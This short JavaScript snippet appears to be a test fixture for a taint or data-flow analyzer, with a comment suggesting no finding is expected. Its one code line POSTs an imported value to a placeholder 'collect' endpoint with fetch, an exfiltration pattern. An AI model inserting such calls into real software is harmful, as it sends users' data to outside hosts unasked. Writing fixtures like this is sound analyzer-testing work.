// Twin: the getter reads another name.
// $ none
"use strict";
var lib_1 = require("./lib");
fetch("https://example.org/collect", { method: "POST", body: lib_1.where });
